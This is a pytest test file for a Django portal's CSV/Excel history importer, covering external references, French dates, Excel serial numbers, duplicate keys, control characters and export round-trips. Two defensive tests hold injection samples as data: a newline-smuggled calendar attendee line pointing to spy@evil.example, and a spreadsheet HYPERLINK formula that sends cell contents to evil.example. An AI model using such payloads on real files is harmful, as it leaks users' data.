"""Issue 14: the importer takes real history (other tools' numbers, unknown pictograms, French dates)."""

import datetime as dt
from io import StringIO
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import translation

from catalogue.models import FamilyPage, ServicePage
from directory.models import Contact, Directorate
from kpis.importing import ImportFailed, SourceError, import_workbook
from kpis.models import Subscription
from requests_box.models import ReferenceCounter, Request
from tests.kpis.test_import_workbook import GOOD, counts, write_folder

PARIS = ZoneInfo("Europe/Paris")
HEADER = (
    "reference,received_at,channel,contact,entity,service,kind,urgent,important,requested_deadline,"
    "resolved_at,closed_at,response_type\n"
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _french():
    with translation.override("fr"):
        yield


def with_requests(lines: str, **others) -> dict[str, str]:
    files = {**GOOD, "requests": HEADER + lines}
    files.update(others)
    return files


def test_other_tools_numbers_become_external_references_next_to_a_portal_reference(tmp_path):
    folder = write_folder(
        tmp_path / "in",
        with_requests(
            "REQ-2023-000005,2023-03-01T09:00:00+01:00,email,,DCOM-GC,,simple,0,0,,,,\n"
            "DEM-2023-000001,2023-03-02T09:00:00+01:00,email,,DCOM-GC,,simple,0,0,,,,\n"
            "12345,2024-06-01T09:00:00+02:00,telephone,,,,simple,0,0,,,,\n"
            "INC0012345,2023-12-31T23:30:00+01:00,email,paul.martin@groupe.fr,,,complexe,0,0,,,,\n"
        ),
    )
    report = import_workbook(folder)
    assert report["requests.csv"].created == 4
    own = Request.objects.get(reference="REQ-2023-000005")
    assert own.external_reference == ""
    # The portal's counter moves past the imported REQ- numbers before numbering the others.
    dem = Request.objects.get(external_reference="DEM-2023-000001")
    inc = Request.objects.get(external_reference="INC0012345")
    assert {dem.reference, inc.reference} == {"REQ-2023-000006", "REQ-2023-000007"}
    assert Request.objects.get(external_reference="12345").reference == "REQ-2024-000001"
    assert dem.subject == "Demande importée DEM-2023-000001"
    assert inc.entity.code == "DRH-PAIE"  # from the contact
    assert ReferenceCounter.objects.get(year=2023).last == 7

    # Idempotent: the external reference is the key, nothing is numbered again.
    again = import_workbook(folder)
    assert (again["requests.csv"].created, again["requests.csv"].updated) == (0, 0)
    assert Request.objects.count() == 4 and ReferenceCounter.objects.get(year=2023).last == 7


def test_the_external_reference_is_shown_and_searchable_in_triage(tmp_path, client_for, relationship_manager):
    import_workbook(
        write_folder(
            tmp_path / "in", with_requests("INC0012345,2026-03-02 09:15,email,,DCOM-GC,,simple,0,0,,,,\n")
        )
    )
    request = Request.objects.get(external_reference="INC0012345")
    client = client_for(relationship_manager)
    page = client.get(reverse("requests_box:request_detail", args=[request.reference])).content.decode()
    assert "Référence externe" in page and "INC0012345" in page
    triage = client.get(reverse("requests_box:triage"), {"q": "INC00123"}).content.decode()
    assert request.reference in triage


def test_a_reference_is_any_text_up_to_64_characters(tmp_path):
    long = "X" * 65
    folder = write_folder(
        tmp_path / "in",
        with_requests(
            f"{long},2026-03-02,email,,,,simple,0,0,,,,\n"
            ",2026-03-02,email,,,,simple,0,0,,,,\n"
            '"DEM\n1",2026-03-02,email,,,,simple,0,0,,,,\n'
        ),
    )
    with pytest.raises(ImportFailed) as failure:
        import_workbook(folder)
    messages = [str(e) for e in failure.value.errors]
    assert "requests.csv:2: reference: plus de 64 caractères" in messages
    assert "requests.csv:3: reference: valeur obligatoire absente" in messages
    assert any(
        m.startswith("requests.csv:4: reference: caractère de contrôle U+000A interdit") for m in messages
    )
    assert counts() == dict.fromkeys(counts(), 0)


def test_an_unknown_pictogram_gets_the_default_one_with_a_warning(tmp_path):
    files = dict(GOOD)
    files["families"] = "code,name,colour,pictogram\nPOSTE,Poste de travail,#1F4E8C,fusee-spatiale\n"
    out, err = StringIO(), StringIO()
    call_command("import_workbook", str(write_folder(tmp_path / "in", files)), stdout=out, stderr=err)
    assert err.getvalue().splitlines() == [
        "families.csv:2: pictogram: avertissement : pictogramme inconnu 'fusee-spatiale', "
        "la famille reçoit le pictogramme par défaut"
    ]
    assert FamilyPage.objects.get(code="POSTE").pictogram == ""
    # Everything behind the family is imported.
    assert ServicePage.objects.filter(code="MAIL").exists()
    assert Subscription.objects.count() == 2 and Request.objects.count() == 2
    assert "requests.csv: 2 created, 0 updated" in out.getvalue()


def test_french_dates_and_excel_serial_numbers_are_read(tmp_path):
    files = with_requests(
        # 45657 is 2024-12-31 in Excel's 1900 system; 45658.5 is 2025-01-01 at noon.
        "REQ-2025-000001,31/12/2025 14:05,email,,DCOM-GC,,simple,0,0,15/01/2026,02/01/2026 09:30:15,,\n"
        "REQ-2025-000002,45657,email,,DCOM-GC,,simple,0,0,,45658.5,,\n"
        "REQ-2025-000003,2/3/2025,email,,DCOM-GC,,simple,0,0,,,,\n"
    )
    files["subscriptions"] = "service,entity,start,end\nMAIL,DCOM-GC,01/01/2026,46100\n"
    import_workbook(write_folder(tmp_path / "in", files))
    first = Request.objects.get(reference="REQ-2025-000001")
    assert first.received_at == dt.datetime(2025, 12, 31, 14, 5, tzinfo=PARIS)
    assert first.requested_deadline == dt.date(2026, 1, 15)
    assert first.resolved_at == dt.datetime(2026, 1, 2, 9, 30, 15, tzinfo=PARIS)
    second = Request.objects.get(reference="REQ-2025-000002")
    assert second.received_at == dt.datetime(2024, 12, 31, tzinfo=PARIS)
    assert second.resolved_at == dt.datetime(2025, 1, 1, 12, tzinfo=PARIS)
    assert Request.objects.get(reference="REQ-2025-000003").received_at == dt.datetime(
        2025, 3, 2, tzinfo=PARIS
    )
    subscription = Subscription.objects.get()
    assert (subscription.start, subscription.end) == (
        dt.date(2026, 1, 1),
        dt.date(1899, 12, 30) + dt.timedelta(46100),
    )


def test_typed_dates_of_a_workbook_are_read(tmp_path):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)
    sheet = workbook.create_sheet("directorates")
    sheet.append(["code", "name"])
    sheet.append(["DCOM", "Direction Commerciale"])
    sheet = workbook.create_sheet("entities")
    sheet.append(["code", "name", "directorate", "client_type"])
    sheet.append(["DCOM-GC", "Grands comptes", "DCOM", "metier"])
    sheet = workbook.create_sheet("requests")
    sheet.append(["reference", "received_at", "entity", "resolved_at", "requested_deadline"])
    sheet.append(["DEM-1", dt.datetime(2024, 12, 31, 14, 5), "DCOM-GC", 45658.5, dt.date(2026, 1, 15)])
    path = tmp_path / "historique.xlsx"
    workbook.save(path)
    import_workbook(path)
    request = Request.objects.get(external_reference="DEM-1")
    assert request.received_at == dt.datetime(2024, 12, 31, 14, 5, tzinfo=PARIS)
    assert request.resolved_at == dt.datetime(2025, 1, 1, 12, tzinfo=PARIS)  # an untyped serial number
    assert request.requested_deadline == dt.date(2026, 1, 15)


def test_impossible_and_absurd_dates_are_errors(tmp_path):
    folder = write_folder(
        tmp_path / "in",
        with_requests(
            "A-1,31/02/2025,email,,,,simple,0,0,,,,\n"
            "A-2,0001-01-01,email,,,,simple,0,0,,,,\n"
            "A-3,2025,email,,,,simple,0,0,,,,\n"
            "A-4,2025-03-02,email,,,,simple,0,0,,9999-12-31T10:00:00,,\n"
        ),
    )
    with pytest.raises(ImportFailed) as failure:
        import_workbook(folder)
    by_line = {e.line: str(e) for e in failure.value.errors}
    assert by_line[2].startswith("requests.csv:2: received_at: date et heure illisibles : '31/02/2025'")
    assert by_line[3] == "requests.csv:3: received_at: date hors limites : '0001-01-01' (de 1900 à 2100)"
    assert by_line[4].startswith("requests.csv:4: received_at: date et heure illisibles : '2025'")
    assert (
        by_line[5]
        == "requests.csv:5: resolved_at: date hors limites : '9999-12-31T10:00:00' (de 1900 à 2100)"
    )


def test_the_same_key_twice_in_one_file_is_an_error_not_an_update(tmp_path):
    files = dict(GOOD)
    files["directorates"] = "code,name\nDCOM,Direction Commerciale\nDRH,RH\nDCOM,Direction du Commerce\n"
    files["contacts"] = GOOD["contacts"] + "JEANNE.dupont@groupe.fr,Jeanne,Autre,DCOM-GC,\n"
    err = StringIO()
    with pytest.raises(SystemExit):
        call_command("import_workbook", str(write_folder(tmp_path / "in", files)), stderr=err)
    lines = err.getvalue().splitlines()
    assert (
        "directorates.csv:4: code: même clé qu'à la ligne 2 (DCOM) : chaque ligne doit être unique" in lines
    )
    assert (
        "contacts.csv:4: email: même clé qu'à la ligne 2 (jeanne.dupont@groupe.fr) : "
        "chaque ligne doit être unique" in lines
    )
    assert Directorate.objects.count() == 0


def test_control_characters_are_refused_in_names(tmp_path):
    files = dict(GOOD)
    files["contacts"] = (
        "email,first_name,last_name,entity,role\n"
        '"camille@groupe.fr","Camille\nATTENDEE:mailto:spy@evil.example",Martin,DCOM-GC,\n'
        '"bob@groupe.fr","Bob\u202eevil",Martin,DCOM-GC,\n'
    )
    files["interactions"] = 'date,kind,contact,note\n2026-07-04,visite,bob@groupe.fr,"Ligne 1\nLigne 2"\n'
    with pytest.raises(ImportFailed) as failure:
        import_workbook(write_folder(tmp_path / "in", files))
    messages = [str(e) for e in failure.value.errors]
    assert (
        "contacts.csv:2: first_name: caractère de contrôle U+000A interdit (retours à la ligne, tabulations…)"
        in messages
    )
    assert (
        "contacts.csv:4: first_name: caractère de contrôle U+202E interdit (retours à la ligne, tabulations…)"
        in (messages)
    )
    # A note may hold line breaks: the interaction is only refused because its contact was.
    assert [m for m in messages if m.startswith("interactions.csv")] == [
        "interactions.csv:2: contact: interlocuteur inconnu : 'bob@groupe.fr'"
    ]
    assert not Contact.objects.exists()


@pytest.mark.parametrize("shape", ["empty folder", "workbook without known sheets"])
def test_an_input_without_any_known_file_is_an_error(tmp_path, shape):
    if shape == "empty folder":
        path = tmp_path / "vide"
        path.mkdir()
    else:
        from openpyxl import Workbook

        path = tmp_path / "classeur.xlsx"
        Workbook().save(path)  # one sheet, "Sheet"
    err = StringIO()
    with pytest.raises(SystemExit) as exit_info:
        call_command("import_workbook", str(path), stderr=err)
    assert exit_info.value.code == 1
    assert f"{path.name} : aucun des fichiers ou feuilles attendus (directorates, entities" in err.getvalue()
    assert err.getvalue().splitlines()[-1] == "rien n'a été importé"
    with pytest.raises(SourceError):
        import_workbook(path)


def test_a_name_that_looks_like_a_formula_is_quoted_in_the_export_and_read_back_unchanged(tmp_path):
    from kpis.importing.export import export_workbook

    files = dict(GOOD)
    files["directorates"] = 'code,name\nDCOM,"=HYPERLINK(""http://evil.example/?d=""&B2,""x"")"\nDRH,RH\n'
    import_workbook(write_folder(tmp_path / "in", files))
    export_workbook(tmp_path / "out")
    exported = (tmp_path / "out" / "directorates.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&B2,""x"")"' in exported
    report = import_workbook(tmp_path / "out")
    assert report["directorates.csv"].updated == 0
    assert Directorate.objects.get(code="DCOM").name == '=HYPERLINK("http://evil.example/?d="&B2,"x")'


def test_an_export_keeps_both_references_and_imports_back_unchanged(tmp_path):
    from kpis.importing.export import export_workbook

    import_workbook(
        write_folder(
            tmp_path / "in", with_requests("INC0012345,2026-03-02 09:15,email,,DCOM-GC,,simple,0,0,,,,\n")
        )
    )
    request = Request.objects.get(external_reference="INC0012345")
    export_workbook(tmp_path / "out.xlsx")
    report = import_workbook(tmp_path / "out.xlsx")
    assert (report["out.xlsx[requests]"].created, report["out.xlsx[requests]"].updated) == (0, 0)
    assert Request.objects.get(external_reference="INC0012345").reference == request.reference
    # Into an empty portal, the export recreates the request with both numbers.
    Request.objects.all().delete()
    import_workbook(tmp_path / "out.xlsx")
    again = Request.objects.get(reference=request.reference)
    assert again.external_reference == "INC0012345"


def test_an_external_reference_column_must_agree_with_the_reference(tmp_path):
    header = HEADER.rstrip("\n") + ",external_reference\n"
    files = dict(GOOD)
    files["requests"] = (
        header + "DEM-1,2026-03-02,email,,,,simple,0,0,,,,,DEM-2\n"
        "REQ-2026-000001,2026-03-02,email,,,,simple,0,0,,,,,DEM-3\n"
        "DEM-3,2026-03-02,email,,,,simple,0,0,,,,,\n"
    )
    with pytest.raises(ImportFailed) as failure:
        import_workbook(write_folder(tmp_path / "in", files))
    assert [str(e) for e in failure.value.errors] == [
        "requests.csv:2: external_reference: différente de la référence 'DEM-1'",
        "requests.csv:4: external_reference: référence externe 'DEM-3' déjà présente ligne 3",
    ]


# -- the deadline another tool gave (issue 19, `due_at`)

DUE_HEADER = "reference,received_at,entity,kind,resolved_at,due_at\n"


def test_due_at_gives_the_deadline_and_whether_it_was_met(tmp_path):
    folder = write_folder(
        tmp_path / "in",
        {
            **GOOD,
            "requests": DUE_HEADER
            + "D-1,02/03/2026 10:00,DCOM-GC,simple,05/03/2026 17:00,06/03/2026\n"  # a date: 18:00 that day
            + "D-2,02/03/2026 10:00,DCOM-GC,simple,06/03/2026 18:30,06/03/2026\n"
            + "D-3,02/03/2026 10:00,DCOM-GC,simple,04/03/2026 12:00,2026-03-04T11:00:00+01:00\n"
            + "D-4,02/03/2026 10:00,DCOM-GC,simple,04/03/2026 12:00,\n"  # no deadline: not judged
            + "D-5,02/03/2026 10:00,DCOM-GC,simple,,10/03/2026 09:30\n",  # open
        },
    )
    import_workbook(folder)
    got = {r.external_reference: r for r in Request.objects.filter(external_reference__startswith="D-")}
    assert got["D-1"].deadline == dt.datetime(2026, 3, 6, 18, 0, tzinfo=PARIS)
    assert [got[k].deadline_met for k in ("D-1", "D-2", "D-3", "D-4", "D-5")] == [
        True,
        False,
        False,
        None,
        None,
    ]
    assert got["D-5"].deadline == dt.datetime(2026, 3, 10, 9, 30, tzinfo=PARIS)
    out = StringIO()
    call_command("kpis", "--start", "2026-03-01", "--end", "2026-04-01", "--json", stdout=out)
    assert '"commitments_counted": 3' in out.getvalue() and '"commitments_kept_pct": 33.33' in out.getvalue()


def test_a_due_at_before_reception_is_refused_and_nothing_is_written(tmp_path):
    folder = write_folder(
        tmp_path / "in",
        {**GOOD, "requests": DUE_HEADER + "D-9,02/03/2026 10:00,DCOM-GC,simple,,01/03/2026 10:00\n"},
    )
    with pytest.raises(ImportFailed) as failure:
        import_workbook(folder)
    assert "due_at: antérieure à la réception" in str(failure.value)
    assert not Request.objects.filter(external_reference="D-9").exists()
